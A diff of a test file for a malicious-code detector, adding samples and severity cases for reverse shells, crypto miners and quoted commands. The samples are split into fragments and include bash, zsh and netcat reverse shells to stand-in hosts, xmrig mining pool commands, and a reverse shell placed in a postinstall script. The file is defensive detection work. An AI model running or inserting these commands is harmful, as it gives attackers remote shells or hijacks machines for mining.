@@ -3,12 +3,12 @@ import { describe, expect, test } from 'vitest'
 import { hostileText } from '../../../../test/support/hostile-text.ts'
 import { MALICIOUS_CODE_RULES, createMaliciousCodeDetector } from './malicious-code-detector.ts'
 
-/** The parts of a sample; they are joined here so that no file holds live code. */
+/** The parts of a sample; joined here so that no file contains live code. */
 type Sample = readonly string[]
 
 interface Samples {
   readonly found: readonly Sample[]
-  /** The benign twins: they look alike and are ordinary. */
+  /** The benign twins: similar code that is ordinary. */
   readonly clean: readonly Sample[]
 }
 
@@ -19,6 +19,10 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
       ['exec 5<>/dev', '/tcp/a.example/443\ncat <&5 | while read line; do $line 2>&5 >&5; done'],
     ],
     clean: [['timeout 1 bash -c "</dev/tcp/db/5432"'], ['(echo > /dev/tcp/localhost/80) >/dev/null 2>&1 && echo up']],
+  },
+  'reverse-shell-zsh': {
+    found: [['zmodload zsh/net/tcp; ztcp', ' 10.0.0.1 53 && zsh -i <&$REPLY >&$REPLY']],
+    clean: [['zmodload zsh/net/tcp; ztcp localhost 6379; print -u $REPLY PING']],
   },
   'reverse-shell-netcat': {
     found: [
@@ -257,6 +261,8 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
     clean: [
       ['echo $SECRET | base64 -d > key.json'],
       ['kubectl get secret x -o jsonpath={.data.a} | base64 -d | shasum'],
+      ['xxd -r -p a.hex | python -m frames'],
+      ['base64 -d a.b64 | python3 read.py'],
     ],
   },
   'steals-environment': {
@@ -298,9 +304,14 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
     found: [
       ['./m -o stratum', '+tcp://pool.example.org:3333 -u wallet'],
       ['./xmrig', ' -o pool.example.org:4444 -u wallet --donate-level 1'],
+      ['run a/x:1 -o pool.', 'supportxmr.com:443 --tls -u wallet'],
       ['new CoinHive', '.Anonymous("key").start()'],
     ],
-    clean: [['XMRig is a miner that malware often installs.'], ['block outbound stratum+tcp traffic']],
+    clean: [
+      ['XMRig is a miner that malware often installs.'],
+      ['block outbound stratum+tcp traffic'],
+      ['the host pool.supportxmr.com:443 is blocked'],
+    ],
   },
   keylogger: {
     found: [
@@ -338,14 +349,14 @@ describe.each(Object.entries(SAMPLES))('%s', (type, { found, clean }) => {
     expect(typesIn(text)).toContain(type)
   })
   test.each(clean.map((parts, number) => ({ text: parts.join(''), number })))(
-    'is not seen in its twin ($number)',
+    'is not found in its twin ($number)',
     ({ text }) => {
       expect(typesIn(text)).toEqual([])
     },
   )
 })
 
-describe('code that is spoken of', () => {
+describe('quoted code', () => {
   const shell = ['bash -i >& /dev', '/tcp/10.0.0.1/4444 0>&1'].join('')
   const severity = (text: string): string | undefined => detector.detect(text, 'agent')[0]?.severity
 
@@ -356,6 +367,9 @@ describe('code that is spoken of', () => {
     ['a pattern of a rule', `pattern: ${shell}`],
     ['a pattern on a line of its own', `- pattern: |\n    ${shell}\n`],
     ['a search', `grep -rne '${shell}' src`],
+    ['a remark after a command', `make lint # not: ${shell}`],
+    ['a here-document into a text', `cat > notes.txt <<'E'\nfirst\n${shell}\nE\nwc -l notes.txt`],
+    ['a message of a commit', `git commit -F- <<E\n${shell}\nE`],
   ])('%s is medium', (_, text) => {
     expect(severity(text)).toBe('medium')
   })
@@ -364,13 +378,16 @@ describe('code that is spoken of', () => {
     ['a command', shell],
     ['an argument of a shell', `bash -c '${shell}'`],
     ['an argument of a call that runs', `os.system("${shell}")`],
+    ['a line after a here-document', `cat > notes.txt <<E\nx\nE\n${shell}`],
+    ['a here-document into a program', `bash <<E\n${shell}\nE`],
+    ['a sign in quotes before it', `echo " # " && ${shell}`],
     ['a script of a package', `{"scripts":{"postinstall":"${shell}"}}`],
   ])('%s is critical', (_, text) => {
     expect(severity(text)).toBe('critical')
   })
 })
 
-test('takes any text, and its matches lie in it, in order and apart', () => {
+test('accepts any text; matches are within it, in order and disjoint', () => {
   const codish = fc
     .array(
       fc.constantFrom(...Object.values(SAMPLES).flatMap(({ found }) => found.flat()), '\n', '"', "'", '😀', ' | '),
